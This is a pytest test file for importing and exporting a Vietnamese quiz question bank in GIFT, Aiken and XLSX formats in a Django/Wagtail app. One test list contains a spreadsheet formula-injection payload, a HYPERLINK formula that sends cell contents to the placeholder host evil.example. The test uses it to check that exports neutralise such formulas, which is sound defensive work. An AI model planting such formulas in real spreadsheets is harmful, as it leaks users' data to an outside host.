"""Import and export of the question bank: GIFT, Aiken, the XLSX template; dry run with
line numbers, all-or-nothing import, and export then import giving the same questions."""

import io
import zipfile

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from assessments.interchange import (
    ParsedChoice,
    ParsedQuestion,
    example_questions,
    export_gift,
    export_xlsx,
    parse_aiken,
    parse_gift,
    parse_xlsx,
)
from assessments.models import Question, QuestionCategory
from assessments.selectors import bank_for_export
from assessments.services import ImportRefused, bank_import

GIFT = """// Ngân hàng thử: chú thích bị bỏ qua
$CATEGORY: $course$/top/Kỹ năng số/Lừa đảo

// [tag:otp] [tag:ngân hàng]
::OTP::Ngân hàng có gọi điện xin mã OTP không?{F#Sai rồi.#Chính xác: ngân hàng không xin OTP.}

::Khẩn cấp:: Số gọi cấp cứu là {
  =115#Đúng
  ~113#Đó là công an
  ~%50%114 (nửa điểm)
  ####113 công an, 114 cứu hoả, 115 cấp cứu.
}

Chọn các thông tin bí mật {~%50%Mã OTP ~%50%Mật khẩu ~%-100%Tên tỉnh}

Ứng dụng định danh là gì? {=VNeID =%50%Định danh điện tử}

Ghép số với dịch vụ {=113 -> Công an =114 -> Cứu hoả =115 -> Cấp cứu}

Ký hiệu \\{ \\} \\= \\~ \\# \\: trong câu {=a\\=b ~c\\{d\\}}

// [hocso:ordering] [hocso:points=2]
Sắp xếp các bước {=Mở ứng dụng =Kiểm tra người nhận =Xác nhận}

Thủ đô của Việt Nam là {=Hà Nội ~Huế} phải không?
"""


def test_gift_every_feature():
    result = parse_gift(GIFT.encode())
    assert result.problems == []
    by_type = {}
    for q in result.questions:
        by_type.setdefault(q.qtype, []).append(q)
    tf = by_type["true_false"][0]
    assert tf.title == "OTP" and tf.category == "Kỹ năng số/Lừa đảo"
    assert sorted(tf.tags) == ["ngân hàng", "otp"]
    assert [(c.text, c.weight, c.feedback) for c in tf.choices] == [
        ("Đúng", 0, "Sai rồi."), ("Sai", 100, "Chính xác: ngân hàng không xin OTP.")]  # fmt: skip
    single = by_type["single"][0]
    assert [(c.text, c.weight) for c in single.choices] == [
        ("115", 100), ("113", 0), ("114 (nửa điểm)", 50)]  # fmt: skip
    assert single.general_feedback.startswith("113 công an")
    multiple = by_type["multiple"][0]
    assert multiple.partial_credit and [c.weight for c in multiple.choices] == [50, 50, -100]
    short = by_type["short_answer"][0]
    assert [(c.text, c.weight) for c in short.choices] == [
        ("VNeID", 100),
        ("Định danh điện tử", 50),
    ]
    matching = by_type["matching"][0]
    assert [(c.text, c.match_text) for c in matching.choices][0] == ("113", "Công an")
    escaped = by_type["single"][1]
    assert escaped.text == "Ký hiệu { } = ~ # : trong câu"
    assert [c.text for c in escaped.choices] == ["a=b", "c{d}"]
    ordering = by_type["ordering"][0]
    assert ordering.points == 2 and [c.text for c in ordering.choices][0] == "Mở ứng dụng"
    missing_word = by_type["single"][2]
    assert missing_word.text == "Thủ đô của Việt Nam là _____ phải không?"


@pytest.mark.parametrize(
    ("source", "line", "words"),
    [("Câu một {=a ~b}\n\nCâu hai thiếu ngoặc {\n=a\n~b\n\nCâu ba {=x ~y}\n", 3, "không được đóng"),
     ("::Tiêu đề không đóng {=a ~b}\n", 1, "::"),
     ("Câu {=a ~b}\n\nCâu có } lẻ\n", 3, "không có { đi trước"),
     ("Câu {#3:x}\n", 1, "không phải là một số"),
     ("Câu {~a ~b}\n", 1, "ít nhất một đáp án đúng"),
     ("Câu {=a ~%50%b ~c}\n\nCâu {=a}\n", 1, None),
     ("$CATEGORY: A\n\nCâu {=a -> b}\n", 3, "hai cặp")],
)  # fmt: skip
def test_gift_problems_name_the_line_in_vietnamese(source, line, words):
    result = parse_gift(source.encode())
    if words is None:  # a valid file, for contrast
        assert result.ok and [q.qtype for q in result.questions] == ["single", "short_answer"]
        return
    assert not result.ok
    assert any(p.line == line and words in p.message for p in result.problems), result.problems
    assert str(result.problems[0]).startswith("Dòng ")


def test_aiken():
    source = ("Số gọi cấp cứu là số nào?\nA. 113\nB) 115\nC. 114\nANSWER: B\n\n"
              "Câu hỏi lỗi\nA. x\nB. y\nANSWER: D\n\nCâu thiếu đáp án\nA. x\nB. y\n")  # fmt: skip
    result = parse_aiken(source.encode(), default_category="Aiken")
    assert [(c.text, c.weight) for c in result.questions[0].choices] == [
        ("113", 0), ("115", 100), ("114", 0)]  # fmt: skip
    assert result.questions[0].category == "Aiken"
    lines = sorted(p.line for p in result.problems)
    assert lines == [10, 12]  # the wrong ANSWER line; the question missing one


def test_broken_gift_imports_nothing(db, admin_client):
    broken = "Câu đúng {=a ~b}\n\nCâu hỏng {=a ~b\n"
    result = parse_gift(broken.encode())
    assert [p.line for p in result.problems] == [3]
    with pytest.raises(ImportRefused):
        bank_import(questions=result.questions + [_invalid()], default_category="X")
    assert Question.objects.count() == 0
    # Through the admin, all or nothing: the dry run lists the problem, offers no import.
    response = admin_client.post(
        reverse("assessments_bank:import"),
        {"file": _upload(broken, "hong.gift"), "format": "auto", "action": "check",
         "all_or_nothing": "on"},
    )  # fmt: skip
    html = response.content.decode()
    assert "Dòng 3" in html and "không được đóng" in html
    assert 'value="import"' not in html
    assert Question.objects.count() == 0


def _invalid():
    return ParsedQuestion(line=9, qtype="single", text="", choices=[])


def _upload(text, name):
    data = text if isinstance(text, bytes) else text.encode()
    return SimpleUploadedFile(name, data)


def test_admin_dry_run_then_import(db, admin_client):
    url = reverse("assessments_bank:import")
    assert admin_client.get(url).status_code == 200
    check = admin_client.post(url, {"file": _upload(GIFT, "bank.gift"), "format": "auto",
                                    "action": "check"})  # fmt: skip
    html = check.content.decode()
    assert "8 câu hỏi sẽ được tạo" in html
    assert Question.objects.count() == 0  # a dry run writes nothing
    payload = check.context["payload"]
    done = admin_client.post(url, {"payload": payload, "format": "gift", "action": "import"})
    assert done.status_code == 302
    assert Question.objects.count() == 8
    assert QuestionCategory.objects.filter(name="Kỹ năng số/Lừa đảo").exists()
    # A tampered payload is refused.
    bad = admin_client.post(url, {"payload": payload[:-3] + "abc", "action": "import"})
    assert "Hãy tải tệp lên lại" in bad.content.decode()
    assert Question.objects.count() == 8


def test_import_needs_permission(db, client, user_factory):
    user = user_factory(is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    # Wagtail answers a missing permission with a redirect to the dashboard.
    for name in ("import", "export", "template"):
        response = client.get(reverse(f"assessments_bank:{name}"))
        assert response.status_code == 302 and response.url == "/admin/"


def test_gift_round_trip_through_the_database(db):
    first = parse_gift(GIFT.encode())
    bank_import(questions=first.questions)
    exported = bank_for_export()
    text = export_gift(exported)
    again = parse_gift(text.encode())
    assert again.problems == []
    assert [q.signature() for q in again.questions] == [q.signature() for q in exported]
    assert sorted(q.signature() for q in exported) == sorted(q.signature() for q in first.questions)


def test_round_trip_of_a_hand_made_bank(bank):
    """Every question type made in the admin survives GIFT and XLSX unchanged."""
    exported = bank_for_export()
    assert {q.qtype for q in exported} == set(bank)
    for fmt, data, parse in (
        ("gift", export_gift(exported).encode(), parse_gift),
        ("xlsx", export_xlsx(exported), parse_xlsx),
    ):
        result = parse(data)
        assert result.problems == [], fmt
        assert [q.signature() for q in result.questions] == [q.signature() for q in exported], fmt


def test_xlsx_template_download_and_row_problems(db, admin_client):
    response = admin_client.get(reverse("assessments_bank:template"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    template = parse_xlsx(response.content)
    assert template.problems == [] and len(template.questions) == 8  # a row per graded type
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["Câu hỏi"]
    sheet.append(["Nhóm A", "Một lựa chọn", "", "Câu thiếu đáp án đúng", 1, "", "", "", "",
                  "x", 0, "", "", "y", 0])  # fmt: skip
    sheet.append(["Nhóm A", "Loại lạ", "", "Câu", 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = parse_xlsx(buffer.getvalue())
    assert [p.line for p in result.problems] == [10, 11]
    assert "100%" in result.problems[0].message
    not_xlsx = parse_xlsx(b"not a workbook")
    assert "Excel" in not_xlsx.problems[0].message


def test_xlsx_matching_problem_speaks_of_the_columns_not_gift(db):
    """Walker finding: a matching row of the XLSX template with one pair was refused with
    GIFT's “item -> match”; the message names the template's columns."""
    workbook = load_workbook(io.BytesIO(export_xlsx([])))
    sheet = workbook["Câu hỏi"]
    sheet.append(["Nhóm A", "Ghép đôi", "", "Ghép thủ đô", 1, "", "", "", "",
                  "Pháp", "", "Paris"])  # fmt: skip
    buffer = io.BytesIO()
    workbook.save(buffer)
    with translation.override("vi"):
        [problem] = parse_xlsx(buffer.getvalue()).problems
    assert "“Đáp án 1” và “Ghép với 1”" in problem.message, problem.message
    assert "->" not in problem.message


def test_export_views(admin_client, bank):
    category = bank["single"].category
    gift = admin_client.get(reverse("assessments_bank:export"),
                            {"category": category.pk, "format": "gift"})  # fmt: skip
    assert gift.status_code == 200
    assert len(parse_gift(gift.content).questions) == 6
    xlsx = admin_client.get(reverse("assessments_bank:export"), {"format": "xlsx"})
    assert len(parse_xlsx(xlsx.content).questions) == 6


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+84 912 345 678", "-1+1",
                "@SUM(1+1)", "=1+1"]  # fmt: skip


def test_xlsx_export_writes_formula_like_text_as_text_and_imports_it_back(db):
    """Issue 17: the bank's XLSX export goes through cms.spreadsheets' writer, so a text
    starting with = + - @ is a string cell, never a formula, and the import reads back
    exactly what was written (a round trip through the bank)."""
    question = ParsedQuestion(
        line=1, qtype="single", text=FORMULA_LIKE[0], category="=Nhóm", title="@tiêu đề",
        general_feedback=FORMULA_LIKE[2], tags=["+thẻ"],
        choices=[ParsedChoice(FORMULA_LIKE[4], 100, "", FORMULA_LIKE[3]),
                 ParsedChoice(FORMULA_LIKE[1], 0), ParsedChoice("-5", -50)],
    )  # fmt: skip
    bank_import(questions=[question])
    exported = bank_for_export()
    data = export_xlsx(exported)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    for text in [*FORMULA_LIKE, "=Nhóm", "@tiêu đề", "+thẻ", "-5"]:
        assert cells.get(text) == "s", text
    assert cells.get(-50) == "n"  # a weight stays a number
    again = parse_xlsx(data)
    assert again.problems == []
    assert [q.signature() for q in again.questions] == [question.signature()]


def test_xlsx_import_is_read_within_the_row_limit(db, settings):
    """The bank's XLSX import reads through cms.spreadsheets: a file with more rows than
    QUESTION_IMPORT_MAX_ROWS is refused from the zip's rows before any is parsed."""
    settings.QUESTION_IMPORT_MAX_ROWS = 3
    workbook = export_xlsx([example_questions()[0]] * 4)
    result = parse_xlsx(workbook)
    assert result.questions == []
    assert [p.line for p in result.problems] == [1]
    assert "nhiều hơn 3 dòng" in result.problems[0].message
    assert parse_xlsx(export_xlsx([example_questions()[0]] * 3)).ok
